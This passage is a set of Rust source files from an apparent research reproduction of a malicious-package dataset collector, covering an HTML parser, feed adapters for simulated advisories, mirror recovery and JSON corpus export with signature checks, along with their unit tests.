    fn version_history_is_ordered_and_complete() {
        let world = World::generate(WorldConfig::small(23));
        let trojan = world
            .campaigns
            .iter()
            .find(|c| c.kind == registry_sim::CampaignKind::Trojan)
            .expect("trojans exist");
        let name = world.package(trojan.packages[0]).id.name().clone();
        let history = RegistryView::version_history(&world, trojan.ecosystem, &name);
        assert!(history.len() >= 3);
        for pair in history.windows(2) {
            assert!(pair[0].0.version() < pair[1].0.version());
        }
    }
}
