//! A small, forgiving HTML parser — the reproduction's BeautifulSoup.
//!
//! The paper's crawler feeds vendor-blog pages through BeautifulSoup and
//! pulls package names out of the markup (§II-B). Real-world pages are
//! messy, so this parser never fails: unclosed tags, stray `<`, and
//! unknown entities all degrade to text.

/// One parse event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Event {
    /// `<tag …>`; the tag name is lowercased, attributes are discarded.
    Open(String),
    /// `</tag>`.
    Close(String),
    /// Text content between tags, entity-decoded.
    Text(String),
}

/// Tokenizes an HTML document into events. Never fails: malformed markup
/// becomes text.
pub fn parse_events(html: &str) -> Vec<Event> {
    let mut events = Vec::new();
    let bytes = html.as_bytes();
    let mut i = 0usize;
    let mut text_start = 0usize;

    let flush_text = |events: &mut Vec<Event>, from: usize, to: usize| {
        if from < to {
            let text = decode_entities(&html[from..to]);
            if !text.trim().is_empty() {
                events.push(Event::Text(text));
            }
        }
    };

    while i < bytes.len() {
        if bytes[i] == b'<' {
            // Find the closing '>'.
            match html[i + 1..].find('>') {
                Some(rel) => {
                    let end = i + 1 + rel;
                    let inner = &html[i + 1..end];
                    if let Some(event) = classify_tag(inner) {
                        flush_text(&mut events, text_start, i);
                        events.push(event);
                        i = end + 1;
                        text_start = i;
                        continue;
                    }
                    // Not a recognizable tag: treat '<' as text.
                    i += 1;
                }
                None => {
                    // Dangling '<' with no '>': everything left is text.
                    i = bytes.len();
                }
            }
        } else {
            i += 1;
        }
    }
    flush_text(&mut events, text_start, html.len());
    events
}

fn classify_tag(inner: &str) -> Option<Event> {
    let inner = inner.trim();
    if inner.is_empty() {
        return None;
    }
    if let Some(name) = inner.strip_prefix('/') {
        let name = name.trim().to_ascii_lowercase();
        if is_tag_name(&name) {
            return Some(Event::Close(name));
        }
        return None;
    }
    if inner.starts_with('!') {
        // Comment or doctype: swallow silently.
        return Some(Event::Text(String::new()));
    }
    // Tag name runs until whitespace or '/'.
    let name: String = inner
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric())
        .collect::<String>()
        .to_ascii_lowercase();
    if is_tag_name(&name) {
        Some(Event::Open(name))
    } else {
        None
    }
}

fn is_tag_name(name: &str) -> bool {
    !name.is_empty()
        && name.len() <= 12
        && name.chars().all(|c| c.is_ascii_alphanumeric())
        && name.chars().next().is_some_and(|c| c.is_ascii_alphabetic())
}

fn decode_entities(text: &str) -> String {
    text.replace("&amp;", "&")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
}

/// Returns the text content of every `<tag>…</tag>` region, in document
/// order. Nested same-name tags are treated as flat regions.
pub fn tag_texts(html: &str, tag: &str) -> Vec<String> {
    let tag = tag.to_ascii_lowercase();
    let mut out = Vec::new();
    let mut depth = 0usize;
    let mut current = String::new();
    for event in parse_events(html) {
        match event {
            Event::Open(name) if name == tag => {
                depth += 1;
            }
            Event::Close(name) if name == tag
                && depth > 0 => {
                    depth -= 1;
                    if depth == 0 {
                        out.push(std::mem::take(&mut current));
                    }
                }
            Event::Text(text) if depth > 0 => {
                current.push_str(&text);
            }
            _ => {}
        }
    }
    // Unclosed region at EOF still yields what it accumulated.
    if depth > 0 && !current.is_empty() {
        out.push(current);
    }
    out
}

/// The document's full visible text, for keyword filtering.
pub fn visible_text(html: &str) -> String {
    let mut out = String::new();
    for event in parse_events(html) {
        if let Event::Text(text) = event {
            if !out.is_empty() {
                out.push(' ');
            }
            out.push_str(text.trim());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn simple_document_round_trip() {
        let events = parse_events("<html><body><p>hello</p></body></html>");
        assert_eq!(
            events,
            vec![
                Event::Open("html".into()),
                Event::Open("body".into()),
                Event::Open("p".into()),
                Event::Text("hello".into()),
                Event::Close("p".into()),
                Event::Close("body".into()),
                Event::Close("html".into()),
            ]
        );
    }

    #[test]
    fn attributes_are_ignored() {
        let events = parse_events(r#"<p class="byline" data-x="1">by us</p>"#);
        assert_eq!(events[0], Event::Open("p".into()));
    }

    #[test]
    fn tag_texts_extracts_code_spans() {
        let html = "<ul><li><code>pypi/a@1.0.0</code></li><li><code>npm/b@2.0.0</code></li></ul>";
        assert_eq!(tag_texts(html, "code"), vec!["pypi/a@1.0.0", "npm/b@2.0.0"]);
    }

    #[test]
    fn entities_are_decoded() {
        let html = "<p>a &amp; b &lt;c&gt;</p>";
        assert_eq!(visible_text(html), "a & b <c>");
    }

    #[test]
    fn mangled_html_degrades_gracefully() {
        // Unclosed tag, dangling '<', stray '>' — no panic, text survives.
        let html = "<p>start <b>bold text\nloose < angle and > bracket";
        let text = visible_text(html);
        assert!(text.contains("start"));
        assert!(text.contains("bold text"));
        let _ = tag_texts(html, "b"); // must not panic
    }

    #[test]
    fn unclosed_code_region_still_yields_text() {
        let html = "<code>pypi/x@1.0.0";
        assert_eq!(tag_texts(html, "code"), vec!["pypi/x@1.0.0"]);
    }

    #[test]
    fn comments_and_doctype_are_swallowed() {
        let html = "<!DOCTYPE html><!-- hidden --><p>shown</p>";
        assert_eq!(visible_text(html).trim(), "shown");
    }

    #[test]
    fn numeric_or_garbage_tags_are_text() {
        let html = "x <123> y <!> z";
        let text = visible_text(html);
        assert!(text.contains('x') && text.contains('y'));
    }

    #[test]
    fn empty_input() {
        assert!(parse_events("").is_empty());
        assert!(tag_texts("", "code").is_empty());
        assert_eq!(visible_text(""), "");
    }

    #[test]
    fn nested_same_tag_flattens() {
        let html = "<div>a<div>b</div>c</div>";
        let texts = tag_texts(html, "div");
        assert_eq!(texts.len(), 1);
        assert_eq!(texts[0], "abc");
    }
}
