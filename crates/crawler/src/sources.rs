//! Source adapters: how each of the ten online sources publishes, and how
//! the collector reads each format back.
//!
//! Three publication styles (paper §II):
//!
//! * **dataset dumps** (Maloss, Mal-PyPI, DataDog) — a JSON index plus
//!   archives; packages are directly available;
//! * **report pages** (Snyk.io, Phylum, …) — HTML advisories naming
//!   `name@version` but shipping no artifact;
//! * **SNS feeds** (the blog/Twitter aggregate) — short text lines.
//!
//! The adapters *render* the world's mentions into those formats and then
//! *parse them back*, so the collection pipeline exercises a real
//! extract-transform path rather than reading simulator structs.

use crate::extract;
use oss_types::{PackageId, SimTime, SourceId};
use registry_sim::World;

/// An artifact recovered with full contents (from a dump or a mirror).
#[derive(Debug, Clone, PartialEq)]
pub struct Archive {
    /// Metadata description.
    pub description: String,
    /// Declared dependencies.
    pub dependencies: Vec<oss_types::PackageName>,
    /// Canonical source code.
    pub code: String,
}

/// One mention as the collector sees it after parsing a source's feed.
#[derive(Debug, Clone, PartialEq)]
pub struct RawMention {
    /// The source that named the package.
    pub source: SourceId,
    /// Parsed identity.
    pub id: PackageId,
    /// Disclosure instant (page byline / dump entry date).
    pub disclosed: SimTime,
    /// Full archive when the source ships one (dumps only).
    pub archive: Option<Archive>,
}

#[derive(Debug)]
struct DumpEntry {
    id: String,
    disclosed: String,
    description: String,
    dependencies: Vec<String>,
    code: String,
}

impl DumpEntry {
    fn to_json(&self) -> jsonio::Value {
        jsonio::object! {
            "id": self.id.as_str(),
            "disclosed": self.disclosed.as_str(),
            "description": self.description.as_str(),
            "dependencies": self.dependencies.clone(),
            "code": self.code.as_str(),
        }
    }

    fn from_json(value: &jsonio::Value) -> Option<DumpEntry> {
        let string = |key: &str| value.get(key)?.as_str().map(str::to_string);
        let dependencies = value
            .get("dependencies")?
            .as_array()?
            .iter()
            .map(|d| d.as_str().map(str::to_string))
            .collect::<Option<Vec<String>>>()?;
        Some(DumpEntry {
            id: string("id")?,
            disclosed: string("disclosed")?,
            description: string("description")?,
            dependencies,
            code: string("code")?,
        })
    }
}

/// Renders one source's feed as raw documents: `(format, body)` pairs.
/// Dumps produce a single JSON body; report sources produce one HTML page
/// per mention (plus occasional decoy pages the keyword filter must
/// drop); SNS produces one text body.
pub fn render_feed(world: &World, source: SourceId) -> Vec<(FeedFormat, String)> {
    let mentions: Vec<&registry_sim::Mention> = world
        .mentions
        .iter()
        .filter(|m| m.source == source)
        .collect();
    match source.publication_style() {
        oss_types::source::PublicationStyle::DatasetDump => {
            let entries: Vec<DumpEntry> = mentions
                .iter()
                .map(|m| {
                    let p = world.package(m.package);
                    DumpEntry {
                        id: p.id.to_string(),
                        disclosed: format_date(m.disclosed),
                        description: p.description.clone(),
                        dependencies: p.dependencies.iter().map(|d| d.to_string()).collect(),
                        code: p.source_text.clone(),
                    }
                })
                .collect();
            let body =
                jsonio::Value::Array(entries.iter().map(DumpEntry::to_json).collect()).to_compact();
            vec![(FeedFormat::JsonDump, body)]
        }
        oss_types::source::PublicationStyle::ReportPages => {
            let mut pages = Vec::new();
            for (i, m) in mentions.iter().enumerate() {
                let p = world.package(m.package);
                pages.push((
                    FeedFormat::HtmlPage,
                    format!(
                        "<html><head><title>Malicious package advisory #{i}</title></head>\
                         <body><p class=\"byline\">{} — {}</p>\
                         <p>We identified a malicious package.</p>\
                         <ul><li><code>{}</code></li></ul></body></html>",
                        source.display_name(),
                        format_date(m.disclosed),
                        p.id
                    ),
                ));
                // Roughly every 25th page in a crawl is unrelated noise.
                if i % 25 == 7 {
                    pages.push((
                        FeedFormat::HtmlPage,
                        "<html><head><title>Quarterly business update</title></head>\
                         <body><p>We grew 40% and hired a mascot.</p></body></html>"
                            .to_string(),
                    ));
                }
            }
            pages
        }
        oss_types::source::PublicationStyle::SnsFeed => {
            let mut body = String::new();
            for m in &mentions {
                let p = world.package(m.package);
                body.push_str(&format!(
                    "[{}] heads up: malware package {} spotted in the wild\n",
                    format_date(m.disclosed),
                    p.id
                ));
            }
            // Feed noise.
            body.push_str("[2023-01-01] happy new year from the feed!\n");
            vec![(FeedFormat::SnsText, body)]
        }
    }
}

/// Raw document format of a feed item.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FeedFormat {
    /// JSON dump index with inline archives.
    JsonDump,
    /// HTML advisory page.
    HtmlPage,
    /// Plain-text SNS feed.
    SnsText,
}

/// Parses one source's rendered feed back into mentions.
pub fn parse_feed(
    source: SourceId,
    documents: &[(FeedFormat, String)],
) -> Vec<RawMention> {
    let mut out = Vec::new();
    for (format, body) in documents {
        match format {
            FeedFormat::JsonDump => {
                let Ok(parsed) = jsonio::Value::parse(body) else {
                    continue; // corrupt dump: skip, don't die
                };
                let Some(items) = parsed.as_array() else {
                    continue;
                };
                for entry in items.iter().filter_map(DumpEntry::from_json) {
                    let Ok(id) = entry.id.parse::<PackageId>() else {
                        continue;
                    };
                    let Ok(disclosed) = entry.disclosed.parse::<SimTime>() else {
                        continue;
                    };
                    let dependencies = entry
                        .dependencies
                        .iter()
                        .filter_map(|d| d.parse().ok())
                        .collect();
                    out.push(RawMention {
                        source,
                        id,
                        disclosed,
                        archive: Some(Archive {
                            description: entry.description,
                            dependencies,
                            code: entry.code,
                        }),
                    });
                }
            }
            FeedFormat::HtmlPage => {
                if !extract::keyword_filter(body) {
                    continue;
                }
                let ids = extract::extract_package_ids(body);
                let disclosed = crate::html::tag_texts(body, "p")
                    .iter()
                    .find_map(|p| find_date(p))
                    .unwrap_or(SimTime::EPOCH);
                for id in ids {
                    out.push(RawMention {
                        source,
                        id,
                        disclosed,
                        archive: None,
                    });
                }
            }
            FeedFormat::SnsText => {
                for line in body.lines() {
                    let lower = line.to_ascii_lowercase();
                    if !(lower.contains("malware") || lower.contains("malicious")) {
                        continue;
                    }
                    let Some(id) = line
                        .split_whitespace()
                        .find_map(|tok| tok.parse::<PackageId>().ok())
                    else {
                        continue;
                    };
                    let disclosed = find_date(line).unwrap_or(SimTime::EPOCH);
                    out.push(RawMention {
                        source,
                        id,
                        disclosed,
                        archive: None,
                    });
                }
            }
        }
    }
    out
}

fn format_date(t: SimTime) -> String {
    let (y, m, d) = t.to_ymd();
    format!("{y:04}-{m:02}-{d:02}")
}

fn find_date(text: &str) -> Option<SimTime> {
    let bytes = text.as_bytes();
    for start in 0..bytes.len().saturating_sub(9) {
        if !text.is_char_boundary(start) || !text.is_char_boundary(start + 10) {
            continue;
        }
        let candidate = &text[start..start + 10];
        if candidate.as_bytes().get(4) == Some(&b'-') && candidate.as_bytes().get(7) == Some(&b'-')
        {
            if let Ok(t) = candidate.parse() {
                return Some(t);
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use registry_sim::WorldConfig;

    fn world() -> World {
        World::generate(WorldConfig::small(3))
    }

    #[test]
    fn dump_feed_round_trips_with_archives() {
        let w = world();
        let docs = render_feed(&w, SourceId::DataDog);
        assert_eq!(docs.len(), 1);
        let mentions = parse_feed(SourceId::DataDog, &docs);
        let expected = w
            .mentions
            .iter()
            .filter(|m| m.source == SourceId::DataDog)
            .count();
        assert_eq!(mentions.len(), expected);
        assert!(mentions.iter().all(|m| m.archive.is_some()));
        // Archive code matches the world's ground truth.
        let sample = &mentions[0];
        let truth = w
            .mentions
            .iter()
            .find(|m| w.package(m.package).id == sample.id)
            .map(|m| w.package(m.package))
            .unwrap();
        assert_eq!(sample.archive.as_ref().unwrap().code, truth.source_text);
    }

    #[test]
    fn report_feed_round_trips_without_archives() {
        let w = world();
        let docs = render_feed(&w, SourceId::Phylum);
        let mentions = parse_feed(SourceId::Phylum, &docs);
        let expected = w
            .mentions
            .iter()
            .filter(|m| m.source == SourceId::Phylum)
            .count();
        assert_eq!(mentions.len(), expected, "decoys must not add mentions");
        assert!(mentions.iter().all(|m| m.archive.is_none()));
        assert!(mentions.iter().all(|m| m.disclosed > SimTime::EPOCH));
    }

    #[test]
    fn sns_feed_round_trips() {
        let w = world();
        let docs = render_feed(&w, SourceId::IndividualBlogs);
        let mentions = parse_feed(SourceId::IndividualBlogs, &docs);
        let expected = w
            .mentions
            .iter()
            .filter(|m| m.source == SourceId::IndividualBlogs)
            .count();
        assert_eq!(mentions.len(), expected, "noise lines must be dropped");
    }

    #[test]
    fn corrupt_dump_is_skipped_not_fatal() {
        let docs = vec![(FeedFormat::JsonDump, "{not json".to_string())];
        assert!(parse_feed(SourceId::DataDog, &docs).is_empty());
    }

    #[test]
    fn mangled_html_page_is_skipped_not_fatal() {
        let docs = vec![(
            FeedFormat::HtmlPage,
            "<html><title>malicious <<< <code>garbage".to_string(),
        )];
        let mentions = parse_feed(SourceId::Phylum, &docs);
        assert!(mentions.is_empty());
    }
}
