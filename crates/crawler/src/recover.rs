//! Mirror recovery: the second chance for removed packages.
//!
//! When a source only names a package, the collector searches the
//! ecosystem's mirror registries by `name@version` (paper §II-C). A
//! mirror serves the artifact iff it captured the package during its
//! persistence window and has not yet reconciled the deletion.

use crate::sources::Archive;
use oss_types::PackageId;
use registry_sim::World;
use std::collections::HashMap;

/// A by-identity index over the world's packages, built once per
/// collection run so mirror lookups are O(1).
#[derive(Debug)]
pub struct MirrorSearch<'w> {
    world: &'w World,
    by_id: HashMap<&'w PackageId, registry_sim::PkgIdx>,
}

impl<'w> MirrorSearch<'w> {
    /// Builds the search index.
    pub fn new(world: &'w World) -> Self {
        let mut by_id = HashMap::new();
        for (i, p) in world.packages.iter().enumerate() {
            by_id.insert(&p.id, registry_sim::PkgIdx(i as u32));
        }
        MirrorSearch { world, by_id }
    }

    /// Searches every mirror of the package's ecosystem at collection
    /// time; returns the archive if some mirror still serves it.
    pub fn lookup(&self, id: &PackageId) -> Option<Archive> {
        let idx = self.by_id.get(id)?;
        let pkg = self.world.package(*idx);
        let held = self.world.mirrors.any_holds(
            pkg.id.ecosystem(),
            pkg.released,
            pkg.removed,
            self.world.config.collect_time,
        );
        if held {
            Some(Archive {
                description: pkg.description.clone(),
                dependencies: pkg.dependencies.clone(),
                code: pkg.source_text.clone(),
            })
        } else {
            None
        }
    }

    /// Whether the identity exists in the world at all (a mention that
    /// resolves to nothing is a typo in a report).
    pub fn exists(&self, id: &PackageId) -> bool {
        self.by_id.contains_key(id)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use registry_sim::WorldConfig;

    #[test]
    fn recovery_matches_world_availability() {
        let world = World::generate(WorldConfig::small(5));
        let search = MirrorSearch::new(&world);
        let mut recovered = 0usize;
        let mut missed = 0usize;
        for pkg in &world.packages {
            let hit = search.lookup(&pkg.id);
            assert_eq!(
                hit.is_some(),
                pkg.mirror_available,
                "mirror search disagrees with availability for {}",
                pkg.id
            );
            if hit.is_some() {
                recovered += 1;
            } else {
                missed += 1;
            }
        }
        assert!(recovered > 0);
        assert!(missed > 0);
    }

    #[test]
    fn recovered_archive_matches_ground_truth() {
        let world = World::generate(WorldConfig::small(6));
        let search = MirrorSearch::new(&world);
        let pkg = world
            .packages
            .iter()
            .find(|p| p.mirror_available)
            .expect("some package is recoverable");
        let archive = search.lookup(&pkg.id).expect("available");
        assert_eq!(archive.code, pkg.source_text);
        assert_eq!(archive.description, pkg.description);
        assert_eq!(archive.dependencies, pkg.dependencies);
    }

    #[test]
    fn unknown_identity_returns_none() {
        let world = World::generate(WorldConfig::small(7));
        let search = MirrorSearch::new(&world);
        let ghost: PackageId = "npm/never-existed@9.9.9".parse().unwrap();
        assert!(!search.exists(&ghost));
        assert_eq!(search.lookup(&ghost), None);
    }
}
