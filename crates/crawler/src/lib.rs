//! The collection pipeline: from scattered online sources to one corpus.
//!
//! Implements the paper's data-collection methodology (§II) against the
//! simulated world:
//!
//! * [`html`] — a forgiving HTML parser (the BeautifulSoup role);
//! * [`extract`] — keyword filtering and `name@version` extraction from
//!   report pages;
//! * [`sources`] — adapters for the three publication styles (dataset
//!   dumps, advisory pages, SNS feeds), rendering and re-parsing each;
//! * [`recover`] — mirror-registry search for removed packages;
//! * [`transport`] — the unreliable-transport layer: every simulated
//!   fetch passes through a seeded fault plan (transient errors,
//!   timeouts, truncated/corrupted payloads, permanent 404s) with
//!   bounded deterministic retry/backoff and per-source health
//!   telemetry;
//! * [`dataset`] — the merged [`dataset::CollectedDataset`], the sole
//!   input of the MALGRAPH builder; [`collect`] is the zero-fault fast
//!   path, [`collect_with`] the resilient collector;
//! * [`export`] — corpus serialization (the paper's dataset-transparency
//!   website: names + signatures public, archives on request);
//! * [`windows`] — windowed collection: one deterministic crawl
//!   partitioned into [`CorpusDelta`]s by a `registry_sim::WindowPlan`,
//!   feeding the incremental graph builder.
//!
//! # Examples
//!
//! ```
//! use crawler::collect;
//! use registry_sim::{World, WorldConfig};
//!
//! let world = World::generate(WorldConfig::small(1));
//! let corpus = collect(&world);
//! assert!(!corpus.packages.is_empty());
//! let available = corpus.packages.iter().filter(|p| p.is_available()).count();
//! assert!(available > 0);
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod dataset;
pub mod export;
pub mod extract;
pub mod html;
pub mod recover;
pub mod registry;
pub mod sources;
pub mod transport;
pub mod windows;

pub use dataset::{
    collect, collect_with, CollectOptions, CollectedDataset, CollectedPackage, CollectedReport,
};
pub use windows::{collect_windows, partition_windows, resume_windows, union_dataset, CorpusDelta};
pub use export::{
    dataset_from_value, dataset_value, delta_from_value, delta_value, export_delta_json,
    export_json, import_delta_json, import_json, ExportFidelity,
};
pub use registry::{IndexedRegistry, RegistryMeta, RegistryView};
pub use sources::{Archive, RawMention};
pub use transport::{CollectionHealth, FetchHealth, FetchOutcome, Transport};
