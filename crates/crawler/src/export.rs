//! Corpus export/import — the paper's dataset-transparency commitment.
//!
//! §II-D: "We build a website to publish all malicious package names
//! (sources) with their signatures (e.g., MD5 hashes) … so the researcher
//! can identify which package to use in the dataset." This module
//! serializes a [`CollectedDataset`] in two fidelities:
//!
//! * [`ExportFidelity::ManifestOnly`] — names, versions, sources,
//!   disclosure dates and signatures, exactly what the paper's website
//!   publishes (archives are withheld);
//! * [`ExportFidelity::Full`] — additionally the recovered archives, the
//!   form a cooperating lab would exchange.
//!
//! Serialization is split into *value* builders/readers
//! ([`dataset_value`] / [`dataset_from_value`], and the
//! [`CorpusDelta`] pair [`delta_value`] / [`delta_from_value`] used by
//! the checkpoint write-ahead journal) and thin string wrappers, so the
//! checkpoint layer can embed a corpus inside a larger snapshot document
//! without re-rendering or re-parsing the JSON text.

use crate::dataset::{CollectedDataset, CollectedPackage, CollectedReport};
use crate::windows::CorpusDelta;
use crate::registry::RegistryMeta;
use crate::sources::Archive;
use crate::transport::{CollectionHealth, FetchHealth};
use oss_types::{PackageId, Sha256, SimTime, SourceId};
use registry_sim::ReportCategory;
use std::fmt;

/// How much of the corpus to export.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExportFidelity {
    /// Names, sources and signatures only (the public website form).
    ManifestOnly,
    /// Everything, including archives.
    Full,
}

/// An import/export failure.
#[derive(Debug)]
pub struct ExportError {
    message: String,
}

impl fmt::Display for ExportError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "corpus export error: {}", self.message)
    }
}

impl std::error::Error for ExportError {}

/// Slug used for a [`ReportCategory`] in manifests (stable across
/// renames of the Rust variant).
fn category_slug(category: ReportCategory) -> &'static str {
    match category {
        ReportCategory::TechnicalCommunity => "technical-community",
        ReportCategory::Commercial => "commercial",
        ReportCategory::News => "news",
        ReportCategory::Individual => "individual",
        ReportCategory::Official => "official",
        ReportCategory::Other => "other",
    }
}

fn parse_category(slug: &str) -> Option<ReportCategory> {
    ReportCategory::ALL
        .into_iter()
        .find(|c| category_slug(*c) == slug)
}

fn time_value(t: SimTime) -> jsonio::Value {
    jsonio::Value::from(t.as_minutes())
}

fn opt_time_value(t: Option<SimTime>) -> jsonio::Value {
    t.map(time_value).unwrap_or(jsonio::Value::Null)
}

fn archive_value(archive: &Archive) -> jsonio::Value {
    jsonio::object! {
        "description": archive.description.as_str(),
        "dependencies": archive
            .dependencies
            .iter()
            .map(|d| d.to_string())
            .collect::<Vec<_>>(),
        "code": archive.code.as_str(),
    }
}

/// Builds the manifest entry of one collected package.
fn package_value(p: &CollectedPackage, fidelity: ExportFidelity) -> jsonio::Value {
    let mentions: Vec<jsonio::Value> = p
        .mentions
        .iter()
        .map(|(source, at)| jsonio::Value::Array(vec![source.slug().into(), time_value(*at)]))
        .collect();
    let jsonio::Value::Object(mut members) = (jsonio::object! {
        "id": p.id.to_string(),
        "mentions": mentions,
        "sha256": p.signature.map(|s| s.to_string()),
        "recovered_from_mirror": p.recovered_from_mirror,
        "mirror_recoverable": p.mirror_recoverable,
        "meta": p.meta.map(|m| jsonio::object! {
            "released": time_value(m.released),
            "removed": opt_time_value(m.removed),
            "downloads": m.downloads,
        }),
    }) else {
        unreachable!("object! builds an object");
    };
    // Archives are withheld entirely in manifest-only exports:
    // the key itself is absent, not null.
    if fidelity == ExportFidelity::Full {
        if let Some(archive) = &p.archive {
            members.push(("archive".to_string(), archive_value(archive)));
        }
    }
    jsonio::Value::Object(members)
}

/// Builds the manifest entry of one collected report.
fn report_value(r: &CollectedReport) -> jsonio::Value {
    jsonio::object! {
        "website": r.website.as_str(),
        "category": category_slug(r.category),
        "published": opt_time_value(r.published),
        "title": r.title.as_str(),
        "packages": r.packages.iter().map(|p| p.to_string()).collect::<Vec<_>>(),
        "actor": r.actor.clone(),
    }
}

/// Builds the manifest document of a corpus as a [`jsonio::Value`] —
/// the embeddable form of [`export_json`].
pub fn dataset_value(dataset: &CollectedDataset, fidelity: ExportFidelity) -> jsonio::Value {
    let packages: Vec<jsonio::Value> = dataset
        .packages
        .iter()
        .map(|p| package_value(p, fidelity))
        .collect();
    let reports: Vec<jsonio::Value> = dataset.reports.iter().map(report_value).collect();
    let jsonio::Value::Object(mut manifest) = (jsonio::object! {
        "format_version": 1u32,
        "collect_time": time_value(dataset.collect_time),
        "website_count": dataset.website_count,
        "packages": packages,
        "reports": reports,
    }) else {
        unreachable!("object! builds an object");
    };
    // The health key is only present for resilient-collector corpora;
    // its absence marks a fault-free legacy manifest.
    if let Some(health) = &dataset.health {
        manifest.push(("health".to_string(), health_value(health)));
    }
    jsonio::Value::Object(manifest)
}

/// Serializes the corpus as pretty-printed JSON.
///
/// # Errors
///
/// Returns [`ExportError`] if serialization fails (it cannot for
/// well-formed corpora; the error path exists for API honesty).
pub fn export_json(
    dataset: &CollectedDataset,
    fidelity: ExportFidelity,
) -> Result<String, ExportError> {
    Ok(dataset_value(dataset, fidelity).to_pretty())
}

/// Deserializes a corpus previously written by [`export_json`].
///
/// Signatures are re-verified against archives when both are present;
/// a mismatch is an error (a corrupted or tampered exchange).
///
/// # Errors
///
/// Returns [`ExportError`] on malformed JSON, unknown format versions,
/// unparseable identities or signature mismatches.
pub fn import_json(json: &str) -> Result<CollectedDataset, ExportError> {
    let root = jsonio::Value::parse(json).map_err(|e| ExportError {
        message: format!("malformed manifest: {e}"),
    })?;
    dataset_from_value(&root)
}

/// Reads one package entry of a manifest, re-verifying its signature
/// against the archive when both are present.
fn read_package(entry: &jsonio::Value) -> Result<CollectedPackage, ExportError> {
    let raw_id = require(entry, "id")?.as_str().ok_or_else(|| bad_field("id"))?;
    let id: PackageId = raw_id.parse().map_err(|e| ExportError {
        message: format!("bad package id {raw_id:?}: {e}"),
    })?;
    let mut mentions = Vec::new();
    for pair in require(entry, "mentions")?
        .as_array()
        .ok_or_else(|| bad_field("mentions"))?
    {
        let items = pair.as_array().ok_or_else(|| bad_field("mentions"))?;
        let (Some(source), Some(at)) = (items.first(), items.get(1)) else {
            return Err(bad_field("mentions"));
        };
        let source: SourceId = source
            .as_str()
            .and_then(|s| s.parse().ok())
            .ok_or_else(|| bad_field("mentions"))?;
        let at = read_time(at).ok_or_else(|| bad_field("mentions"))?;
        mentions.push((source, at));
    }
    let signature = match require(entry, "sha256")? {
        jsonio::Value::Null => None,
        value => Some(parse_sha256(
            value.as_str().ok_or_else(|| bad_field("sha256"))?,
        )?),
    };
    let archive = match entry.get("archive") {
        None | Some(jsonio::Value::Null) => None,
        Some(value) => Some(read_archive(value)?),
    };
    if let (Some(signature), Some(archive)) = (signature, &archive) {
        let recomputed = registry_sim::campaign::artifact_signature(
            &id,
            &archive.description,
            &archive.dependencies,
            &archive.code,
        );
        if recomputed != signature {
            return Err(ExportError {
                message: format!("signature mismatch for {id}"),
            });
        }
    }
    let meta = match require(entry, "meta")? {
        jsonio::Value::Null => None,
        value => Some(RegistryMeta {
            released: read_time(require(value, "released")?)
                .ok_or_else(|| bad_field("meta.released"))?,
            removed: match require(value, "removed")? {
                jsonio::Value::Null => None,
                at => Some(read_time(at).ok_or_else(|| bad_field("meta.removed"))?),
            },
            downloads: require(value, "downloads")?
                .as_u64()
                .ok_or_else(|| bad_field("meta.downloads"))?,
        }),
    };
    Ok(CollectedPackage {
        id,
        mentions,
        archive,
        signature,
        recovered_from_mirror: require(entry, "recovered_from_mirror")?
            .as_bool()
            .ok_or_else(|| bad_field("recovered_from_mirror"))?,
        mirror_recoverable: require(entry, "mirror_recoverable")?
            .as_bool()
            .ok_or_else(|| bad_field("mirror_recoverable"))?,
        meta,
    })
}

/// Reads one report entry of a manifest.
fn read_report(entry: &jsonio::Value) -> Result<CollectedReport, ExportError> {
    let mut ids = Vec::new();
    for raw in require(entry, "packages")?
        .as_array()
        .ok_or_else(|| bad_field("report packages"))?
    {
        let raw = raw.as_str().ok_or_else(|| bad_field("report packages"))?;
        ids.push(raw.parse().map_err(|e| ExportError {
            message: format!("bad report package id {raw:?}: {e}"),
        })?);
    }
    Ok(CollectedReport {
        website: require(entry, "website")?
            .as_str()
            .ok_or_else(|| bad_field("website"))?
            .to_string(),
        category: require(entry, "category")?
            .as_str()
            .and_then(parse_category)
            .ok_or_else(|| bad_field("category"))?,
        published: match require(entry, "published")? {
            jsonio::Value::Null => None,
            at => Some(read_time(at).ok_or_else(|| bad_field("published"))?),
        },
        title: require(entry, "title")?
            .as_str()
            .ok_or_else(|| bad_field("title"))?
            .to_string(),
        packages: ids,
        actor: match require(entry, "actor")? {
            jsonio::Value::Null => None,
            value => Some(
                value
                    .as_str()
                    .ok_or_else(|| bad_field("actor"))?
                    .to_string(),
            ),
        },
    })
}

/// Reads a corpus manifest already parsed into a [`jsonio::Value`] —
/// the embeddable form of [`import_json`].
///
/// # Errors
///
/// Returns [`ExportError`] on unknown format versions, unparseable
/// identities or signature mismatches.
pub fn dataset_from_value(root: &jsonio::Value) -> Result<CollectedDataset, ExportError> {
    let format_version = require(root, "format_version")?
        .as_u64()
        .ok_or_else(|| bad_field("format_version"))?;
    if format_version != 1 {
        return Err(ExportError {
            message: format!("unsupported format version {format_version}"),
        });
    }
    let collect_time = read_time(require(root, "collect_time")?).ok_or_else(|| bad_field("collect_time"))?;
    let website_count = require(root, "website_count")?
        .as_u64()
        .ok_or_else(|| bad_field("website_count"))? as usize;

    let package_entries = require(root, "packages")?
        .as_array()
        .ok_or_else(|| bad_field("packages"))?;
    let mut packages = Vec::with_capacity(package_entries.len());
    for entry in package_entries {
        packages.push(read_package(entry)?);
    }

    let report_entries = require(root, "reports")?
        .as_array()
        .ok_or_else(|| bad_field("reports"))?;
    let mut reports = Vec::with_capacity(report_entries.len());
    for entry in report_entries {
        reports.push(read_report(entry)?);
    }
    let health = match root.get("health") {
        None | Some(jsonio::Value::Null) => None,
        Some(value) => Some(read_health(value)?),
    };
    Ok(CollectedDataset {
        packages,
        reports,
        website_count,
        collect_time,
        health,
    })
}

/// Builds the write-ahead-journal document of one collection window.
/// Deltas are always serialized at full fidelity: the journal must be
/// lossless or replay could not reproduce the uninterrupted corpus.
